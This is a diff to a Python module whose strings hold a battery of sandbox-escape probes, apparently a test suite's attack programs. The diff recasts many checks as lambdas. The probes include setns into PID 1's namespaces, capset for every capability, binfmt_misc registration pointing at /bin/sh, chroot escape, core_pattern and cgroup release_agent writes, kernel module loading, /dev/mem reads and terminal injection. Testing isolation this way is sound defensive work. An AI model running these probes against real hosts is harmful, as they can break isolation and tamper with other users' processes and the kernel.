@@ -127,21 +127,11 @@ def is_own(path):
 """
 
 _OF_OTHERS = r"""
-@attempt("System V memory", "attach to another's segment")
-def _():
-    return theirs and call((30, 196), theirs["segment"], 0, 0o10000) >= 0 and "attached"
-@attempt("System V memory", "remove another's segment")
-def _():
-    return theirs and call((31, 195), theirs["segment"], 0, 0) == 0 and "removed"
-@attempt("System V memory", "list what there is")
-def _():
-    return [line for kind in ("shm", "sem", "msg") for line in open(f"/proc/sysvipc/{kind}").read().splitlines()[1:]]
-@attempt("message queues", "open another's")
-def _():
-    return theirs and call((240, 180), theirs["queue"].encode(), os.O_RDONLY, 0, None) >= 0 and "opened"
-@attempt("message queues", "remove another's")
-def _():
-    return theirs and call((241, 181), theirs["queue"].encode()) == 0 and "removed"
+attempt("System V memory", "attach to another's segment")(lambda: theirs and call((30, 196), theirs["segment"], 0, 0o10000) >= 0 and "attached")
+attempt("System V memory", "remove another's segment")(lambda: theirs and call((31, 195), theirs["segment"], 0, 0) == 0 and "removed")
+attempt("System V memory", "list what there is")(lambda: [line for kind in ("shm", "sem", "msg") for line in open(f"/proc/sysvipc/{kind}").read().splitlines()[1:]])
+attempt("message queues", "open another's")(lambda: theirs and call((240, 180), theirs["queue"].encode(), os.O_RDONLY, 0, None) >= 0 and "opened")
+attempt("message queues", "remove another's")(lambda: theirs and call((241, 181), theirs["queue"].encode()) == 0 and "removed")
 class Span(ctypes.Structure):
     _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
 for pid in (1, *outside):
@@ -164,12 +154,8 @@ for pid in (1, *outside):
         fd = call(434, pid, 0)
         got = [call(438, fd, number, 0) for number in range(32)] if fd >= 0 else []
         return [number for number in got if number >= 0]
-    @attempt("descriptors of others", f"compare with {pid}")
-    def _():
-        return call((312, 272), os.getpid(), pid, 0, 0, 0) >= 0 and "compared"
-    @attempt("descriptors of others", f"open one of {pid}")
-    def _():
-        return [name for name in os.listdir(f"/proc/{pid}/fd") if opens(f"/proc/{pid}/fd/{name}")]
+    attempt("descriptors of others", f"compare with {pid}")(lambda: call((312, 272), os.getpid(), pid, 0, 0, 0) >= 0 and "compared")
+    attempt("descriptors of others", f"open one of {pid}")(lambda: [name for name in os.listdir(f"/proc/{pid}/fd") if opens(f"/proc/{pid}/fd/{name}")])
 @attempt("inherited descriptors", "what leads elsewhere than to pipes, terminals and files of its own")
 def _():
     found = []
@@ -225,37 +211,23 @@ for part in ("maps", "mem", "auxv", "io", "syscall", "stack", "personality", "pa
             said = file.read(64).strip()
             return said not in (b"", b"0") and said
 for part in ("root", "cwd", "exe", "ns/user", "ns/pid"):
-    @attempt("the first process", part)
-    def _():
-        return os.readlink(f"/proc/1/{part}")
+    attempt("the first process", part)(lambda: os.readlink(f"/proc/1/{part}"))
 @attempt("the first process", "where its locks are")
 def _():
     head = struct.pack("PP", 0, 0)
     return call((274, 100), 1, ctypes.create_string_buffer(head), ctypes.create_string_buffer(8)) == 0 and "told"
-@attempt("the first process", "files that it has mapped")
-def _():
-    return os.listdir("/proc/1/map_files")
+attempt("the first process", "files that it has mapped")(lambda: os.listdir("/proc/1/map_files"))
 for pid in outside:
-    @attempt("foreign numbers", f"a descriptor of {pid}")
-    def _():
-        return call(434, pid, 0) >= 0 and "opened"
-    @attempt("foreign numbers", f"its group and session, {pid}")
-    def _():
-        return os.getpgid(pid), os.getsid(pid)
-    @attempt("foreign numbers", f"wait for {pid}")
-    def _():
-        return os.waitid(os.P_PID, pid, os.WEXITED | os.WNOHANG | os.WNOWAIT) or "none yet"
+    attempt("foreign numbers", f"a descriptor of {pid}")(lambda: call(434, pid, 0) >= 0 and "opened")
+    attempt("foreign numbers", f"its group and session, {pid}")(lambda: (os.getpgid(pid), os.getsid(pid)))
+    attempt("foreign numbers", f"wait for {pid}")(lambda: os.waitid(os.P_PID, pid, os.WEXITED | os.WNOHANG | os.WNOWAIT) or "none yet")
     @attempt("foreign numbers", f"say in a socket to be {pid}")
     def _():
         one, other = socket.socketpair(socket.AF_UNIX)
         with one, other:
             return one.sendmsg([b"x"], [(1, 2, struct.pack("3i", pid, os.getuid(), os.getgid()))]) and "said"
-    @attempt("signals by other ways", f"by a thread's number, {pid}")
-    def _():
-        return call((234, 131), pid, pid, 0) == 0 and "sent"
-    @attempt("signals by other ways", f"with a value, {pid}")
-    def _():
-        return call((129, 138), pid, 10, ctypes.create_string_buffer(struct.pack("iii116x", 10, 0, -1))) == 0 and "sent"
+    attempt("signals by other ways", f"by a thread's number, {pid}")(lambda: call((234, 131), pid, pid, 0) == 0 and "sent")
+    attempt("signals by other ways", f"with a value, {pid}")(lambda: call((129, 138), pid, 10, ctypes.create_string_buffer(struct.pack("iii116x", 10, 0, -1))) == 0 and "sent")
     @attempt("signals by other ways", f"to its group, {pid}")
     def _():
         os.killpg(pid, 0)
@@ -274,15 +246,9 @@ for pid in outside:
     def _():
         os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
         return "set"
-    @attempt("priorities of others", f"disk of {pid}")
-    def _():
-        return call((251, 30), 1, pid, 3 << 13) == 0 and "set"
-    @attempt("priorities of others", f"limits of {pid}")
-    def _():
-        return resource.prlimit(pid, resource.RLIMIT_NOFILE)
-    @attempt("priorities of others", f"pages of {pid}")
-    def _():
-        return call((256, 238), pid, 1, ctypes.byref(ctypes.c_ulong(1)), ctypes.byref(ctypes.c_ulong(1))) >= 0 and "moved"
+    attempt("priorities of others", f"disk of {pid}")(lambda: call((251, 30), 1, pid, 3 << 13) == 0 and "set")
+    attempt("priorities of others", f"limits of {pid}")(lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE))
+    attempt("priorities of others", f"pages of {pid}")(lambda: call((256, 238), pid, 1, ctypes.byref(ctypes.c_ulong(1)), ctypes.byref(ctypes.c_ulong(1))) >= 0 and "moved")
     @attempt("out of memory", f"make {pid} the first to end")
     def _():
         with open(f"/proc/{pid}/oom_score_adj", "r+") as file:
@@ -309,9 +275,7 @@ def _():
 def _():
     os.setpriority(os.PRIO_PROCESS, 0, -10)
     return "set"
-@attempt("scheduling classes", "disk before everybody else")
-def _():
-    return call((251, 30), 1, 0, 1 << 13) == 0 and "set"
+attempt("scheduling classes", "disk before everybody else")(lambda: call((251, 30), 1, 0, 1 << 13) == 0 and "set")
 for name in ("CORE", "NOFILE", "NPROC", "MSGQUEUE", "SIGPENDING", "MEMLOCK", "RTPRIO", "NICE"):
     @attempt("limits of its own", f"raise {name}")
     def _():
@@ -387,9 +351,7 @@ for name, flags in (("a mount", 0x10), ("a file system", 0x100)):
             fd = call((300, 262), kind, os.O_RDONLY)
             if fd >= 0 and call((301, 263), fd, 1 | flags, 0x20, -100, b"/") == 0:
                 return f"class {kind}"
-@attempt("watches of files", "permission events")
-def _():
-    return any(call((300, 262), kind, 0) >= 0 for kind in (4, 8)) and "asked for"
+attempt("watches of files", "permission events")(lambda: any(call((300, 262), kind, 0) >= 0 for kind in (4, 8)) and "asked for")
 def says(family, text, timeout=0.5):
     with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as there:
         there.settimeout(timeout)
@@ -409,18 +371,10 @@ def _():
 def _():
     body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 253, 1, 0) + struct.pack("HHI", 8, 4, 1)
     return error_of(says(0, message(24, 0x605, body))) == 0 and "made"
-@attempt("netlink", "rules of the firewall")
-def _():
-    return error_of(says(12, message(0x0A00, 5, b"\2\0\0\0" + struct.pack("HH", 8, 1) + b"evl\0"))) in (0,) and "made"
-@attempt("netlink", "keys of IPsec")
-def _():
-    return error_of(says(6, message(0x12, 0x305, bytes(24)))) in (0, "answered") and "listed"
-@attempt("netlink", "what the machine audits")
-def _():
-    return error_of(says(9, message(1000, 5, b""))) in (0, "answered") and "told"
-@attempt("netlink", "write into the machine's audit log")
-def _():
-    return error_of(says(9, message(1107, 5, b"op=evil\0"))) == 0 and "written"
+attempt("netlink", "rules of the firewall")(lambda: error_of(says(12, message(0x0A00, 5, b"\2\0\0\0" + struct.pack("HH", 8, 1) + b"evl\0"))) in (0,) and "made")
+attempt("netlink", "keys of IPsec")(lambda: error_of(says(6, message(0x12, 0x305, bytes(24)))) in (0, "answered") and "listed")
+attempt("netlink", "what the machine audits")(lambda: error_of(says(9, message(1000, 5, b""))) in (0, "answered") and "told")
+attempt("netlink", "write into the machine's audit log")(lambda: error_of(says(9, message(1107, 5, b"op=evil\0"))) == 0 and "written")
 @attempt("netlink", "hear of every process")
 def _():
     with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 11) as there:
@@ -429,9 +383,7 @@ def _():
         there.send(message(3, 0, struct.pack("IIIIHHI", 1, 1, 0, 0, 4, 0, 1)))
         child(lambda: True)
         return there.recv(4096)
-@attempt("netlink", "what every process has used")
-def _():
-    return error_of(says(16, message(0x10, 5, struct.pack("BBxxHH", 3, 1, 14, 2) + b"TASKSTATS\0\0\0"))) == 0 and "told"
+attempt("netlink", "what every process has used")(lambda: error_of(says(16, message(0x10, 5, struct.pack("BBxxHH", 3, 1, 14, 2) + b"TASKSTATS\0\0\0"))) == 0 and "told")
 for name, level, option, value in (
     ("mark packets", 1, 36, 7), ("force a buffer", 1, 33, 1 << 28), ("as if from elsewhere", 0, 19, 1), ("repair", 6, 19, 1),
     ("a priority", 1, 12, 7),
@@ -450,28 +402,16 @@ def perf(kind, config, pid, cpu, flags):
     body = struct.pack("IIQQQQQ", kind, 128, config, 0, 0, 0, flags).ljust(128, b"\0")
     return call((298, 241), ctypes.create_string_buffer(body), pid, cpu, -1, 8)
 for name, pid, cpu in (("a whole processor", -1, 0), *((f"process {pid}", pid, -1) for pid in (1, *outside))):
-    @attempt("perf events", name)
-    def _():
-        return perf(1, 0, pid, cpu, 1 | 1 << 5 | 1 << 6) >= 0 and "counted"
-@attempt("perf events", "the kernel while it works for this process")
-def _():
-    return perf(1, 0, 0, -1, 1) >= 0 and "counted"
-@attempt("perf events", "a place in the kernel")
-def _():
-    return perf(2, 1, -1, 0, 1) >= 0 and "traced"
-@attempt("page faults", "those of the kernel")
-def _():
-    return call((323, 282), 0) >= 0 and "handles them"
-@attempt("page faults", "by a device")
-def _():
-    return opens("/dev/userfaultfd", os.O_RDWR) and "opened"
+    attempt("perf events", name)(lambda: perf(1, 0, pid, cpu, 1 | 1 << 5 | 1 << 6) >= 0 and "counted")
+attempt("perf events", "the kernel while it works for this process")(lambda: perf(1, 0, 0, -1, 1) >= 0 and "counted")
+attempt("perf events", "a place in the kernel")(lambda: perf(2, 1, -1, 0, 1) >= 0 and "traced")
+attempt("page faults", "those of the kernel")(lambda: call((323, 282), 0) >= 0 and "handles them")
+attempt("page faults", "by a device")(lambda: opens("/dev/userfaultfd", os.O_RDWR) and "opened")
 for name, command in (("a map", 0), ("a program", 5), ("one by its number", 13), ("iterate", 11), ("a token", 36)):
     @attempt("programs in the kernel", name)
     def _():
         return call((321, 280), command, ctypes.create_string_buffer(struct.pack("IIIII", 2, 4, 4, 1, 0).ljust(128, b"\0")), 128) != -errno.EPERM and "not refused"
-@attempt("programs in the kernel", "shared by others")
-def _():
-    return [entry.name for entry in os.scandir("/sys/fs/bpf")]
+attempt("programs in the kernel", "shared by others")(lambda: [entry.name for entry in os.scandir("/sys/fs/bpf")])
 for name, number, arguments in (
     ("a module", (175, 105), (b"", 0, b"")),
     ("a module from a file", (313, 273), (-1, b"", 0)),
@@ -489,13 +429,9 @@ for name, number, arguments in (
         answer = call(number, *arguments)
         return answer not in (-errno.EPERM, -errno.ENOSYS, -errno.ENOTBLK, -errno.ENOENT, -errno.ENODEV, -errno.EACCES) and answer
 for kind in (2, 3, 10):
-    @attempt("the kernel's log", f"by the call, {kind}")
-    def _():
-        return call((103, 116), kind, ctypes.create_string_buffer(64), 64) >= 0 and "read"
+    attempt("the kernel's log", f"by the call, {kind}")(lambda: call((103, 116), kind, ctypes.create_string_buffer(64), 64) >= 0 and "read")
 for path in ("/proc/kmsg", "/dev/kmsg", "/sys/kernel/debug/dynamic_debug/control", "/sys/kernel/tracing/trace", "/sys/kernel/debug/tracing/trace", "/sys/fs/pstore", "/var/log/kern.log", "/var/log/journal"):
-    @attempt("the kernel's log", path)
-    def _():
-        return (os.path.isdir(path) and os.listdir(path)) or (os.path.isfile(path) and opens(path) and "opened")
+    attempt("the kernel's log", path)(lambda: (os.path.isdir(path) and os.listdir(path)) or (os.path.isfile(path) and opens(path) and "opened"))
 for path in ("/dev/mem", "/dev/port", "/proc/kcore", "/sys/kernel/debug", "/sys/firmware/efi/efivars", "/proc/self/pagemap"):
     @attempt("the machine's memory", path)
     def _():
@@ -504,12 +440,8 @@ for path in ("/dev/mem", "/dev/port", "/proc/kcore", "/sys/kernel/debug", "/sys/
                 file.seek(ctypes.addressof(ctypes.create_string_buffer(1)) // 4096 * 8)
                 return struct.unpack("Q", file.read(8))[0] & (1 << 55) - 1
         return os.listdir(path) if os.path.isdir(path) else opens(path) and "opened"
-@attempt("the machine's memory", "ports of devices")
-def _():
-    return x86 and (call(172, 3) == 0 or call(173, 0x70, 2, 1) == 0) and "allowed"
-@attempt("the machine's memory", "addresses in the kernel")
-def _():
-    return [line for line in open("/proc/kallsyms") if int(line.split()[0], 16)][:1] if os.path.exists("/proc/kallsyms") else None
+attempt("the machine's memory", "ports of devices")(lambda: x86 and (call(172, 3) == 0 or call(173, 0x70, 2, 1) == 0) and "allowed")
+attempt("the machine's memory", "addresses in the kernel")(lambda: [line for line in open("/proc/kallsyms") if int(line.split()[0], 16)][:1] if os.path.exists("/proc/kallsyms") else None)
 """  # noqa: E501
 
 _OF_THE_KERNEL = r"""
@@ -525,9 +457,7 @@ for path in ("/", *about["hidden"][:1], about["writable"]):
                     return answer
         finally:
             os.close(mount)
-@attempt("new mount calls", "a file system")
-def _():
-    return [kind for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"fuse", b"cgroup2", b"bpf", b"devpts") if call(430, kind, 0) >= 0]
+attempt("new mount calls", "a file system")(lambda: [kind for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"fuse", b"cgroup2", b"bpf", b"devpts") if call(430, kind, 0) >= 0])
 for name, number, arguments in (
     ("take a tree", 428, (-100, b"/", 1)),
     ("pick one", 433, (-100, b"/", 0)),
@@ -585,12 +515,8 @@ for name in ("mnt", "net", "ipc", "uts", "cgroup"):
         own = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
         users = fcntl.ioctl(own, 0xB701)
         return os.fstat(users).st_ino != os.stat("/proc/self/ns/user").st_ino and libc.setns(users, 0) == 0 and "entered"
-    @attempt("relatives of namespaces", f"enter {name} again, for its capabilities")
-    def _():
-        return libc.setns(os.open(f"/proc/self/ns/{name}", os.O_RDONLY), 0) == 0 and "entered"
-@attempt("relatives of namespaces", "all of the first process by its descriptor")
-def _():
-    return libc.setns(call(434, 1, 0), 0x20000 | 0x10000000) == 0 and "entered"
+    attempt("relatives of namespaces", f"enter {name} again, for its capabilities")(lambda: libc.setns(os.open(f"/proc/self/ns/{name}", os.O_RDONLY), 0) == 0 and "entered")
+attempt("relatives of namespaces", "all of the first process by its descriptor")(lambda: libc.setns(call(434, 1, 0), 0x20000 | 0x10000000) == 0 and "entered")
 for name in ("uid_map", "gid_map", "setgroups"):
     @attempt("identity maps", name)
     def _():
@@ -656,20 +582,14 @@ for name, function in {
     "an offset for its children": lambda: os.write(os.open("/proc/self/timens_offsets", os.O_WRONLY), b"monotonic 1000 0"),
     "wake the machine": lambda: call((283, 85), 9, 0) >= 0,
 }.items():
-    @attempt("clocks", name)
-    def _():
-        return function() and "done"
+    attempt("clocks", name)(lambda: function() and "done")
 @attempt("names of the machine", "its own")
 def _():
     socket.sethostname("evil")
     return "set"
-@attempt("names of the machine", "its domain")
-def _():
-    return libc.setdomainname(b"evil", 4) == 0 and "set"
+attempt("names of the machine", "its domain")(lambda: libc.setdomainname(b"evil", 4) == 0 and "set")
 for path in (".", "/", about["writable"]):
-    @attempt("chroot", path)
-    def _():
-        return child(lambda: os.chroot(path) or True) and "changed"
+    attempt("chroot", path)(lambda: child(lambda: os.chroot(path) or True) and "changed")
 @attempt("chroot", "and out again")
 def _():
     def climb():
@@ -680,25 +600,15 @@ def _():
         os.chroot(".")
         return True
     return child(climb) and "out"
-@attempt("filters and bits", "take the filter away")
-def _():
-    return libc.prctl(22, 0, 0, 0, 0) == 0 and "gone"
-@attempt("filters and bits", "gain rights again")
-def _():
-    return libc.prctl(38, 0, 0, 0, 0) == 0 and "will"
-@attempt("filters and bits", "keep capabilities over a change of the user")
-def _():
-    return libc.prctl(28, 0xFF, 0, 0, 0) == 0 and "kept"
-@attempt("filters and bits", "an ambient capability")
-def _():
-    return [number for number in range(41) if libc.prctl(47, 2, number, 0, 0) == 0]
+attempt("filters and bits", "take the filter away")(lambda: libc.prctl(22, 0, 0, 0, 0) == 0 and "gone")
+attempt("filters and bits", "gain rights again")(lambda: libc.prctl(38, 0, 0, 0, 0) == 0 and "will")
+attempt("filters and bits", "keep capabilities over a change of the user")(lambda: libc.prctl(28, 0xFF, 0, 0, 0) == 0 and "kept")
+attempt("filters and bits", "an ambient capability")(lambda: [number for number in range(41) if libc.prctl(47, 2, number, 0, 0) == 0])
 @attempt("filters and bits", "every capability")
 def _():
     header, data = struct.pack("Ii", 0x20080522, 0), struct.pack("IIIIII", *(0xFFFFFFFF, 0xFFFFFFFF, 0) * 2)
     return libc.capset(header, data) == 0 and "has them"
-@attempt("filters and bits", "another program's file as its own")
-def _():
-    return libc.prctl(35, 13, os.open("/bin/sh", os.O_RDONLY), 0, 0) == 0 and "is"
+attempt("filters and bits", "another program's file as its own")(lambda: libc.prctl(35, 13, os.open("/bin/sh", os.O_RDONLY), 0, 0) == 0 and "is")
 def code_of(*words):
     # Machine code in memory of its own, called.
     place = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
@@ -710,12 +620,8 @@ for name, number in (("its number", 20), ("a socket", 359), ("keys", 288), ("mou
         # push rbx; mov eax, number; xor ebx, ebx; int 0x80; pop rbx; ret
         return x86 and child(lambda: code_of("53", "b8" + struct.pack("<I", number).hex(), "31db", "cd80", "5b", "c3") not in (-1, -38, -14)) and "answered"
 for number in (39, 41, 250, 165):
-    @attempt("other architectures", f"call {number} of x32")
-    def _():
-        return x86 and call(0x40000000 + number, 0, 0, 0) not in (-errno.EPERM, -errno.ENOSYS) and "answered"
-@attempt("terminals", "of others")
-def _():
-    return [path for path in (*(f"/dev/tty{number}" for number in range(4)), "/dev/console", "/dev/ttyS0", "/dev/vcs", "/dev/hvc0") if opens(path, os.O_RDWR)]
+    attempt("other architectures", f"call {number} of x32")(lambda: x86 and call(0x40000000 + number, 0, 0, 0) not in (-errno.EPERM, -errno.ENOSYS) and "answered")
+attempt("terminals", "of others")(lambda: [path for path in (*(f"/dev/tty{number}" for number in range(4)), "/dev/console", "/dev/ttyS0", "/dev/vcs", "/dev/hvc0") if opens(path, os.O_RDWR)])
 for name, number in (("type", 0x5412), ("the console's output", 0x541D), ("paste", 0x541C)):
     @attempt("terminals", name)
     def _():
@@ -745,12 +651,8 @@ def _():
         finally:
             os.kill(pid, 9)
     return child(steal) and "stolen"
-@attempt("terminals", "hang up")
-def _():
-    return call((153, 58)) == 0 and "hung up"
-@attempt("core dumps", "another program for them")
-def _():
-    return [path for path in ("core_pattern", "core_uses_pid", "core_pipe_limit") if opens(f"/proc/sys/kernel/{path}", os.O_WRONLY)]
+attempt("terminals", "hang up")(lambda: call((153, 58)) == 0 and "hung up")
+attempt("core dumps", "another program for them")(lambda: [path for path in ("core_pattern", "core_uses_pid", "core_pipe_limit") if opens(f"/proc/sys/kernel/{path}", os.O_WRONLY)])
 @attempt("core dumps", "leave one where it cannot write")
 def _():
     def crash():
@@ -759,17 +661,13 @@ def _():
         os.kill(os.getpid(), signal.SIGSEGV)
     child(crash)
     return [name for name in os.listdir("/") if name.startswith("core")]
-@attempt("core dumps", "what others have left")
-def _():
-    return [path for path in ("/var/lib/systemd/coredump", "/var/crash", "/cores") if os.path.isdir(path) and os.listdir(path)]
+attempt("core dumps", "what others have left")(lambda: [path for path in ("/var/lib/systemd/coredump", "/var/crash", "/cores") if os.path.isdir(path) and os.listdir(path)])
 @attempt("formats of programs", "one of its own")
 def _():
     with open("/proc/sys/fs/binfmt_misc/register", "w") as file:
         file.write(":evil:M::EVIL::/bin/sh:OC")
     return "registered"
-@attempt("formats of programs", "mount them")
-def _():
-    return libc.mount(b"none", b"/proc/sys/fs/binfmt_misc", b"binfmt_misc", 0, None) == 0 and "mounted"
+attempt("formats of programs", "mount them")(lambda: libc.mount(b"none", b"/proc/sys/fs/binfmt_misc", b"binfmt_misc", 0, None) == 0 and "mounted")
 @attempt("sysctls", "write any")
 def _():
     # Everybody may open ns_last_pid; the kernel asks for a capability at the write.
@@ -777,15 +675,11 @@ def _():
 @attempt("sysctls", "by the process' own directory")
 def _():
     return [name for name in ("kernel/hostname", "net/ipv4/ip_forward", "user/max_user_namespaces") if opens(f"/proc/self/task/{os.getpid()}/../../../sys/{name}", os.O_WRONLY)]
-@attempt("sysfs", "write anything")
-def _():
-    return [entry.path for entry in walk("/sys", 4) if entry.is_file(follow_symlinks=False) and opens(entry.path, os.O_WRONLY)]
+attempt("sysfs", "write anything")(lambda: [entry.path for entry in walk("/sys", 4) if entry.is_file(follow_symlinks=False) and opens(entry.path, os.O_WRONLY)])
 @attempt("sysfs", "release agents of control groups")
 def _():
     return [entry.path for entry in walk("/sys/fs/cgroup", 3) if entry.name in ("release_agent", "notify_on_release", "cgroup.event_control", "cgroup.kill", "devices.allow") and opens(entry.path, os.O_WRONLY)]
-@attempt("sysfs", "what the machine's power says of others")
-def _():
-    return [entry.path for entry in walk("/sys/devices/virtual/powercap", 4) if entry.name == "energy_uj" and opens(entry.path)]
+attempt("sysfs", "what the machine's power says of others")(lambda: [entry.path for entry in walk("/sys/devices/virtual/powercap", 4) if entry.name == "energy_uj" and opens(entry.path)])
 for name in ("kcore", "kpagecount", "kpageflags", "kpagecgroup", "slabinfo", "vmallocinfo", "timer_list", "sched_debug", "pagetypeinfo", "keys", "latency_stats", "vmstat_refresh", "iomem"):
     @attempt("files of root in proc", name)
     def _():
@@ -794,9 +688,7 @@ for name in ("kcore", "kpagecount", "kpageflags", "kpagecgroup", "slabinfo", "vm
             return [line for line in open(path) if int(line.split("-")[0], 16)][:1]
         return not os.path.isdir(path) and opens(path) and open(path, "rb").read(64)
 for name in ("fuse", "net/tun", "kvm", "loop-control", "loop0", "vhost-vsock", "vhost-net", "vsock", "uinput", "cuse", "vfio/vfio", "snapshot", "cpu_dma_latency", "hpet", "autofs", "btrfs-control", "mapper/control", "input/event0", "dri/card0", "cpu/0/msr", "watchdog", "zero/..", "hugepages"):
-    @attempt("other devices", name)
-    def _():
-        return opens(f"/dev/{name}", os.O_RDWR) and "opened"
+    attempt("other devices", name)(lambda: opens(f"/dev/{name}", os.O_RDWR) and "opened")
 @attempt("other devices", "nodes of its own, wherever it may write")
 def _():
     for place in (about["writable"], "/dev/shm", "/tmp", *about["own"]):
@@ -824,9 +716,7 @@ for path in ("/etc/passwd", os.path.realpath(sys.executable), os.path.realpath(o
         return (libc.linkat(fd, b"", -100, place.encode(), 0x1000) == 0 or libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, place.encode(), 0x400) == 0) and "linked"
 wanted = [path for paths in about["files"].values() for path in paths]
 for way in ("/proc/self/root", "/proc/thread-self/root", "/proc/self/task/%d/root" % os.getpid(), "/proc/self/cwd/" + "../" * 40, "/proc/1/root", "/proc/1/cwd/" + "../" * 40, "/dev/fd/0/" + "../" * 40, "/dev/../proc/self/map_files/.."):
-    @attempt("climbing", f"by {way}")
-    def _():
-        return [path for path in wanted if opens(way + path)]
+    attempt("climbing", f"by {way}")(lambda: [path for path in wanted if opens(way + path)])
 @attempt("climbing", "out of a directory that moves")
 def _():
     # A process that stands in a directory that is moved out of the mount it came by could once climb to the root of the disk.
@@ -884,9 +774,7 @@ def _():
         except OSError:
             pass
     return found
-@attempt("names that are looked up later", "exchange a cover with what it covers")
-def _():
-    return [path for path in about["hidden"] if libc.renameat2(-100, path.encode(), -100, b"/tmp", 2) == 0]
+attempt("names that are looked up later", "exchange a cover with what it covers")(lambda: [path for path in about["hidden"] if libc.renameat2(-100, path.encode(), -100, b"/tmp", 2) == 0])
 @attempt("names that are looked up later", "remove a cover")
 def _():
     found = []
@@ -1001,9 +889,7 @@ def _():
 def _():
     return [fd for fd in (1, 2) if stat.S_ISFIFO(os.fstat(fd).st_mode) and about["pipe_is_the_labs"] and opens(f"/proc/self/fd/{fd}") and struct.unpack("i", fcntl.ioctl(os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK), 0x541B, b"\0\0\0\0"))[0] > 1 << 20]
 for name, function in {"remove it": lambda path: os.unlink(path) is None, "another in its place": lambda path: os.rename(own_file("broker"), path) is None, "listen there": lambda path: socket.socket(socket.AF_UNIX).bind(path + "2") is None, "close it to others": lambda path: os.chmod(path, 0) is None, "give it away": lambda path: os.chown(path, 1, 1) is None}.items():
-    @attempt("an impostor's broker", name)
-    def _():
-        return about["broker"].startswith("/") and function(about["broker"]) and "done"
+    attempt("an impostor's broker", name)(lambda: about["broker"].startswith("/") and function(about["broker"]) and "done")
 for name in ("tcp", "tcp6", "udp", "udp6", "raw", "packet", "netlink", "route", "arp"):
     @attempt("the network's tables", name)
     def _():
@@ -1015,9 +901,7 @@ def _():
     names = [line.split()[7] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7]
     others = [name for name in names if name.startswith(tuple(about["hidden"])) and not is_own(name) or theirs["abstract"] in name]
     return about["closed"] and others
-@attempt("the network's tables", "where its packets would go")
-def _():
-    return about["closed"] and [line for line in open("/proc/net/dev").read().splitlines()[2:] if not line.strip().startswith("lo:")]
+attempt("the network's tables", "where its packets would go")(lambda: about["closed"] and [line for line in open("/proc/net/dev").read().splitlines()[2:] if not line.strip().startswith("lo:")])
 for name, number, arguments in (
     ("add one", (248, 217), (b"user", b"evil", b"x", 1, -5)),
     ("ask for one", (249, 218), (b"user", b"evil", None, 0)),
@@ -1026,16 +910,10 @@ for name, number, arguments in (
     ("the persistent ones", (250, 219), (22, -1, -1)),
     ("another session", (250, 219), (1, 0, 0)),
 ):
-    @attempt("keys of others", name)
-    def _():
-        return call(number, *arguments) != -errno.EPERM and "not refused"
-@attempt("keys of others", "count those of other users")
-def _():
-    return [line for line in open("/proc/key-users").read().splitlines() if int(line.split(":")[0]) != os.getuid()]
+    attempt("keys of others", name)(lambda: call(number, *arguments) != -errno.EPERM and "not refused")
+attempt("keys of others", "count those of other users")(lambda: [line for line in open("/proc/key-users").read().splitlines() if int(line.split(":")[0]) != os.getuid()])
 for name, number in (("set up", 425), ("enter", 426), ("register", 427)):
-    @attempt("rings", name)
-    def _():
-        return call(number, 1, ctypes.create_string_buffer(256), 0, 0, 0, 0) >= 0 and "done"
+    attempt("rings", name)(lambda: call(number, 1, ctypes.create_string_buffer(256), 0, 0, 0, 0) >= 0 and "done")
 """  # noqa: E501
 
 #: The programs of `support.attacks`, with all of these before their answer.
